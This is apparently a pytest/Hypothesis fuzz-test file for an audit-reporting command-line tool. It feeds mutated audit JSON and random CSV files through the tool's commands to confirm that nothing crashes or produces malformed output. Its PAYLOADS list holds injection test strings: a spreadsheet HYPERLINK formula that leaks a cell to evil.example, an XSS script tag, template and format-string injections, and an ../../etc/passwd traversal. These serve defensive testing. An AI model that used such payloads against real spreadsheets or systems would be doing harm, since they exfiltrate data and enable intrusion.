"""Generated input through the whole pipeline: nothing a user types may break it.

Audit files are the bundled examples mutated at random (values replaced by huge, tiny, negative or
non-finite numbers, injection payloads and control characters, wrong types, removed keys) and files
generated from the JSON Schema; CSV files are random bytes and random dialects. A failure is an
exception escaping a command, an exit status other than 0 or 1, an output that is not valid for its
format, or a file that ``validate`` accepts and a later command refuses.

CI runs a fixed sample; ``make fuzz`` runs the long one (``AUDITKIT_FUZZ=long``) and prints its counts.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
import re
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditkit.cli import main
from auditkit.resources import examples_dir

LONG = os.environ.get("AUDITKIT_FUZZ") == "long"
AUDITS = 5000 if LONG else 40
SCHEMA_AUDITS = 500 if LONG else 10
CSV_FILES = 2000 if LONG else 150
COUNTS: dict[str, int] = {"audits": 0, "valid audits": 0, "schema audits": 0, "csv files": 0}

EXAMPLES = [
    json.loads(path.read_text(encoding="utf-8")) for path in sorted(examples_dir().glob("*.audit.json"))
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "{count}",
    "%s%n",
    "a\x0bb",
    "\x00\x1f\x7f\x85",
    "../../etc/passwd",
    "\u202e\u200b",
    "«\u00a0»",
    "x" * 5000,
]
NUMBERS = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([0, -1, 1e12, 1e308, 5e-324, -5e-324, 2**63, 10**400]),
)
LEAVES = st.one_of(NUMBERS, st.sampled_from(PAYLOADS), st.text(max_size=40), st.booleans(), st.none())
_SECTIONS = st.sampled_from(
    [
        "engagement",
        "client",
        "objectives",
        "channels",
        "stakeholders",
        "peers",
        "strategy",
        "organisation",
        "settings",
        "roadmap",
    ]
)


def _paths(document: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a value inside ``document``."""
    found = [prefix] if prefix else []
    if isinstance(document, dict):
        for key, value in document.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            found += _paths(value, (*prefix, index))
    return found


@st.composite
def mutated_audits(draw: st.DrawFn) -> dict[str, Any]:
    """A bundled example with a few values replaced, removed or retyped."""
    document = copy.deepcopy(draw(st.sampled_from(EXAMPLES)))
    section = draw(_SECTIONS)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        paths = [path for path in _paths(document) if path[0] == section] or _paths(document)
        path = draw(st.sampled_from(paths))
        parent = document
        for part in path[:-1]:
            parent = parent[part]
        if draw(st.booleans()) and isinstance(parent, dict) and len(path) > 1:
            parent.pop(path[-1], None)
        else:
            parent[path[-1]] = draw(LEAVES)
    return document


def run(*argv: str) -> tuple[int, str]:
    """Run the command line in this process: its exit status and what it printed."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            status = main(list(argv))
        except SystemExit as stop:
            status = stop.code if isinstance(stop.code, int) else 1
    return status, out.getvalue() + err.getvalue()


def _refuse_constant(name: str) -> None:
    pytest.fail(f"the JSON output holds {name}")


_NOT_FINITE = re.compile(r"\b(-?inf|Infinity|NaN|nan)\b")


def check_pipeline(document: Any, folder: Path) -> None:
    """Validate ``document``; when valid, every later command must succeed with well-formed output."""
    path = folder / "fuzz.audit.json"
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    status, printed = run("validate", str(path))
    assert status in (0, 1), printed
    assert "Traceback" not in printed
    COUNTS["audits"] += 1
    if status:
        return
    COUNTS["valid audits"] += 1
    for command in ("score", "diagnose", "roadmap"):
        status, printed = run(command, str(path), "--json")
        assert status == 0, f"{command} refused a valid file: {printed}"
        json.loads(printed, parse_constant=_refuse_constant)
    for extension in (".md", ".csv", ".xlsx", ".ics"):
        target = folder / f"roadmap{extension}"
        status, printed = run("roadmap", str(path), "-o", str(target))
        assert status == 0, f"roadmap {extension} refused a valid file: {printed}"
        if extension == ".md":
            assert not _NOT_FINITE.search(target.read_text(encoding="utf-8"))
        if extension == ".xlsx":
            for sheet in openpyxl.load_workbook(target).worksheets:
                assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    status, printed = run("report", str(path), "-o", str(folder / "report.html"))
    assert status == 0, f"report refused a valid file: {printed}"


_FUZZ = settings(
    max_examples=AUDITS,
    deadline=None,
    derandomize=not LONG,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.mark.slow
@_FUZZ
@given(mutated_audits())
def test_mutated_audits_never_break_the_pipeline(document: dict[str, Any]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        check_pipeline(document, Path(folder))


@pytest.mark.slow
@settings(
    max_examples=SCHEMA_AUDITS, deadline=None, derandomize=not LONG, suppress_health_check=list(HealthCheck)
)
@given(st.data())
def test_audits_generated_from_the_schema_never_break_the_pipeline(data: st.DataObject) -> None:
    from auditkit.store import json_schema

    document = data.draw(from_schema(_inlined(json_schema())))
    COUNTS["schema audits"] += 1
    with tempfile.TemporaryDirectory() as folder:
        check_pipeline(document, Path(folder))


def _inlined(schema: dict[str, Any]) -> dict[str, Any]:
    """The schema with its ``#/$defs/...`` references replaced by what they name."""
    definitions = schema.get("$defs", {})

    def resolve(node: Any) -> Any:
        if isinstance(node, dict):
            if "$ref" in node:
                return resolve(definitions[node["$ref"].rsplit("/", 1)[1]])
            return {key: resolve(value) for key, value in node.items() if key != "$defs"}
        if isinstance(node, list):
            return [resolve(item) for item in node]
        return node

    resolved: dict[str, Any] = resolve(schema)
    return resolved


def from_schema(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Documents that the JSON Schema ``schema`` describes (the subset of keywords pydantic writes)."""
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    if "anyOf" in schema:
        return st.one_of([from_schema(option) for option in schema["anyOf"]])
    kind = schema.get("type")
    if kind == "object":
        return _objects(schema)
    if kind == "array":
        return st.lists(from_schema(schema.get("items", {})), max_size=4)
    if kind == "integer":
        return st.integers(min_value=schema.get("minimum"), max_value=schema.get("maximum"))
    if kind == "number":
        return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
    if kind == "boolean":
        return st.booleans()
    if kind == "null":
        return st.none()
    if kind == "string":
        if schema.get("format") == "date":
            return st.dates().map(lambda day: day.isoformat())
        if schema.get("format") == "date-time":
            return st.datetimes().map(lambda moment: moment.isoformat() + "Z")
        if "pattern" in schema:
            return st.from_regex(schema["pattern"], fullmatch=True)
        return st.text(min_size=schema.get("minLength", 0), max_size=min(schema.get("maxLength", 40), 40))
    return LEAVES


def _objects(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    properties = schema.get("properties", {})
    required = set(schema.get("required", ()))
    if not properties and isinstance(schema.get("additionalProperties"), dict):
        keys = from_schema(schema.get("propertyNames", {"type": "string"}))
        return st.dictionaries(keys, from_schema(schema["additionalProperties"]), max_size=3)

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        return {
            name: draw(from_schema(prop))
            for name, prop in properties.items()
            if name in required or draw(st.booleans())
        }

    return build()


_CELLS = st.one_of(
    st.sampled_from(PAYLOADS),
    NUMBERS.map(str),
    st.text(max_size=12),
    st.sampled_from(["2026-11-30", "30/11/2026", "1 234,5", "12 %", "-3", "Net followers"]),
)


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    """Random bytes, or a table of random cells in a random dialect and encoding."""
    if draw(st.integers(min_value=0, max_value=4)) == 0:
        return draw(st.binary(max_size=2000))
    separator = draw(st.sampled_from([",", ";", "\t", "|"]))
    quote = draw(st.sampled_from(['"', "'"]))
    width = draw(st.integers(min_value=1, max_value=8))
    rows = draw(st.lists(st.lists(_CELLS, min_size=width, max_size=width), max_size=30))
    header = draw(
        st.sampled_from(
            [
                ["Date", "Impressions", "Reach", "Likes", "Comments", "Shares", "Followers"],
                ["date", "portée", "abonnés", "j'aime"],
                ["a", "b"],
            ]
        )
    )
    lines = [separator.join(header)] + [
        separator.join(f"{quote}{cell}{quote}" if draw(st.booleans()) else cell for cell in row)
        for row in rows
    ]
    text = draw(st.sampled_from(["\n", "\r\n"])).join(lines)
    return text.encode(draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"])), errors="replace")


@pytest.mark.slow
@settings(
    max_examples=CSV_FILES,
    deadline=None,
    derandomize=not LONG,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(csv_files())
def test_csv_files_fail_only_with_the_import_error(data: bytes) -> None:
    from auditkit.csv_import import CsvImportError, plan_import, read_csv, suggest_definition, suggest_mapping
    from auditkit.store import load

    COUNTS["csv files"] += 1
    audit = load(examples_dir() / "boulangerie-martin.audit.json")
    try:
        table = read_csv(data, "export.csv")
        mapping = suggest_mapping(table)
        channel = audit.channels[0]
        plan_import(audit, channel.id, table, mapping, suggest_definition(table, mapping, channel))
    except CsvImportError as error:
        assert "export.csv" in str(error)


def test_print_the_counts() -> None:
    """Runs last in this file: the figures of the run (``make fuzz`` shows them with ``-s``)."""
    print("\nfuzz counts: " + ", ".join(f"{name} {count}" for name, count in COUNTS.items()))
